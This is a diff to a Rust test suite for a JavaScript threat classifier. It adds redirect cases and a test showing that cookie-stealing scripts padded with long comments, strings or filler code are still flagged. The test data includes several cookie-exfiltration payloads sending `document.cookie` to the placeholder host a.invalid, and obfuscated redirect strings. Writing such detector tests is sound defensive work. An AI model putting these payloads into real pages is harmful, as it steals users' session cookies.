@@ -50,6 +50,22 @@ fn scripts_are_told_apart() {
             Severity::Malicious,
         ),
         ("fetch('a?' + document.cookie)", Severity::Malicious),
+        (
+            "var u = 'https://a.invalid/'; location.href = u",
+            Severity::Suspicious,
+        ),
+        (
+            "const next='//a.invalid/';setTimeout(()=>{window.location.assign(next)},9)",
+            Severity::Suspicious,
+        ),
+        (
+            "location.replace('ht' + 'tps://' + 'a.invalid')",
+            Severity::Suspicious,
+        ),
+        (
+            "var u = '#top'; location.href = u; var bu = 'https://a.invalid'",
+            Severity::Active,
+        ),
         ("fetch(`a?${document.cookie}`)", Severity::Malicious),
         (
             "i = new Image(); i.setAttribute('src', u + document.cookie)",
@@ -76,4 +92,32 @@ fn scripts_are_told_apart() {
     ] {
         assert_eq!(judge(script).0, wanted, "{script}");
     }
+}
+
+#[test]
+fn what_stands_between_two_words_hides_neither() {
+    let steals = [
+        "var c = document.cookie; FILL ; fetch('https://a.invalid/?' + c)",
+        "FILL\n;fetch('https://a.invalid/?' + document.cookie)",
+    ];
+    let filled = "x".repeat(30_000);
+    for fill in [
+        format!("/* {filled} */"),
+        format!("// {filled}\n"),
+        format!("var s = '{filled}'"),
+        format!("var s = `{filled}`"),
+    ] {
+        for script in steals {
+            let judged = judge(&script.replace("FILL", &fill));
+            assert_eq!(judged.0, Severity::Malicious, "{script} {}", &fill[..12]);
+        }
+    }
+    let between = "f(x);".repeat(200);
+    let named = format!("let c=btoa(document.cookie);{between}fetch('https://a.invalid/?'+c)");
+    assert_eq!(judge(&named).0, Severity::Malicious);
+    let library = "f(x);".repeat(8_000);
+    let direct = format!("{library}fetch('https://a.invalid/?' + btoa(document.cookie));{library}");
+    assert_eq!(judge(&direct).0, Severity::Malicious);
+    let apart = format!("{library}document.cookie;fetch('https://a.invalid/');");
+    assert_eq!(judge(&apart).0, Severity::Suspicious);
 }
